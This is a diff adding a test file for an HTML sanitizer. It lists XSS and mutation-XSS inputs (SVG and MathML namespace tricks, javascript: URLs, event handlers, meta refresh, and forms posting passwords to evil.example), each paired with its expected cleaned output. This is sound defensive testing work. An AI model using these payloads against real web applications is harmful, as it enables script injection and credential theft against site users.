@@ -1,0 +1,107 @@
+import { pictureManners, type CaseGroup } from './case.js';
+
+export const foreign: CaseGroup = {
+  name: 'foreign content, and what a second parser would see',
+  cases: [
+    ['<svg onload="trip()"><circle r="1"/></svg>a', 'a'],
+    ['<svg><a href="javascript:trip()"><text>x</text></a></svg>a', 'a'],
+    ['<svg><animate attributeName="href" values="javascript:trip()"/></svg>a', 'a'],
+    ['<svg><set attributeName="onmouseover" to="trip()"/></svg>a', 'a'],
+    ['<svg><use href="data:image/svg+xml,x"/></svg>a', 'a'],
+    ['<svg><foreignObject><p onclick="trip()">x</p></foreignObject></svg>a', 'a'],
+    [
+      '<svg><style><img src="/a" alt="" onerror="trip()"></style></svg>a',
+      `<img src="/a" alt=""${pictureManners}>a`,
+    ],
+    [
+      '<svg></p><style><a title="</style><img src onerror=trip()>">',
+      `<p></p><img${pictureManners}>"&gt;`,
+    ],
+    ['<svg><p>x</p></svg>a', '<p>x</p>a'],
+    ['<math><mi href="javascript:trip()">x</mi></math>a', 'a'],
+    [
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=trip()&gt;">',
+      '',
+    ],
+    [
+      '<math><annotation-xml encoding="text/html"><p onclick="trip()">x</p></annotation-xml></math>a',
+      'a',
+    ],
+    ['<form><math><mtext></form><form><mglyph><style></math><img src onerror="trip()">', ''],
+    [
+      '<title><p title="</title><img src onerror=trip()>">x</title>a',
+      `<img${pictureManners}>"&gt;xa`,
+    ],
+    ['<style><p title="</style><b>x</b>">', '<b>x</b>"&gt;'],
+    ['<textarea><p title="</textarea><b>x</b>">', '<b>x</b>"&gt;'],
+    ['<xmp><p title="</xmp><b>x</b>">', '<b>x</b>"&gt;'],
+    ['<noembed><p title="</noembed><b>x</b>">', '<b>x</b>"&gt;'],
+    ['<noframes><p title="</noframes><b>x</b>">', '<b>x</b>"&gt;'],
+    ['<iframe><p title="</iframe><b>x</b>">', '<b>x</b>"&gt;'],
+    ['<plaintext><b>x</b>', ''],
+    ['<!--<b>x</b>-->a', 'a'],
+    ['<!--><b>x</b>-->a', '<b>x</b>--&gt;a'],
+    ['<!--a--!><b>x</b>', '<b>x</b>'],
+    ['<![CDATA[<b>x</b>]]>a', 'x]]&gt;a'],
+    ['<?xml version="1.0"?><b>x</b>', '<b>x</b>'],
+    ['<!DOCTYPE html><b>x</b>', '<b>x</b>'],
+    ['</ b><b>x</b>', '<b>x</b>'],
+    ['<%<b>x</b>%>', '&lt;%<b>x</b>%&gt;'],
+    ['&lt;script&gt;trip()&lt;/script&gt;', '&lt;script&gt;trip()&lt;/script&gt;'],
+    ['&amp;lt;b&amp;gt;', '&amp;lt;b&amp;gt;'],
+  ],
+};
+
+export const frames: CaseGroup = {
+  name: 'frames, objects, heads of documents',
+  cases: [
+    ['<iframe src="https://evil.example/"></iframe>a', 'a'],
+    ['<iframe srcdoc="<script>trip()</script>"></iframe>a', 'a'],
+    ['<frameset onload="trip()"><frame src="javascript:trip()"></frameset>a', 'a'],
+    ['<object data="javascript:trip()"><b>x</b></object>a', 'a'],
+    ['<object type="image/svg+xml" data="data:image/svg+xml,x"></object>a', 'a'],
+    ['<embed src="https://evil.example/x.swf" allowscriptaccess="always">a', 'a'],
+    ['<applet code="X"><b>x</b></applet>a', 'a'],
+    ['<portal src="https://evil.example/"></portal>a', 'a'],
+    ['<fencedframe></fencedframe>a', 'a'],
+    ['<webview src="https://evil.example/"></webview>a', 'a'],
+    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">a', 'a'],
+    ['<meta http-equiv="Content-Security-Policy" content="default-src *">a', 'a'],
+    ['<meta name="referrer" content="unsafe-url">a', 'a'],
+    ['<base href="https://evil.example/"><a href="x">a</a>', '<a href="x">a</a>'],
+    ['<link rel="stylesheet" href="https://evil.example/x.css">a', 'a'],
+    ['<link rel="prefetch" href="https://pixel.example/">a', 'a'],
+    [
+      '<html onload="trip()"><head><title>x</title></head><body onpageshow="trip()">a</body></html>',
+      'a',
+    ],
+    ['</body></html><b>x</b>', '<b>x</b>'],
+    ['</div></div></live-blog><b>x</b>', '<b>x</b>'],
+    ['</article><article><b>x</b></article>', '<b>x</b>'],
+  ],
+};
+
+export const forms: CaseGroup = {
+  name: 'forms and other things to press',
+  cases: [
+    ['<form action="https://evil.example/"><input name="password"></form>a', 'a'],
+    ['<form action="javascript:trip()"><button>x</button></form>a', 'a'],
+    ['<input type="image" src="/a" formaction="javascript:trip()">a', 'a'],
+    ['<button type="submit" form="login">x</button>a', 'a'],
+    [
+      '<button popovertarget="x" popovertargetaction="show">x</button><p popover id="x">y</p>',
+      '<p>y</p>',
+    ],
+    ['<button commandfor="x" command="show-modal">x</button><p id="x">y</p>', '<p>y</p>'],
+    ['<dialog open>x</dialog>a', 'a'],
+    ['<select><option>x</option></select>a', 'a'],
+    ['<textarea autofocus>x</textarea>a', 'a'],
+    ['<label for="password">x</label>a', 'xa'],
+    ['<fieldset><legend>x</legend></fieldset>a', 'a'],
+    ['<datalist><option>x</option></datalist>a', 'a'],
+    ['<meter value="1">x</meter><progress>y</progress>a', 'a'],
+    ['<p contenteditable accesskey="x" draggable="true" inert>a</p>', '<p>a</p>'],
+    ['<menu><li>x</li></menu>a', 'a'],
+    ['<summary tabindex="1" role="button" aria-label="x">a</summary>', '<summary>a</summary>'],
+  ],
+};
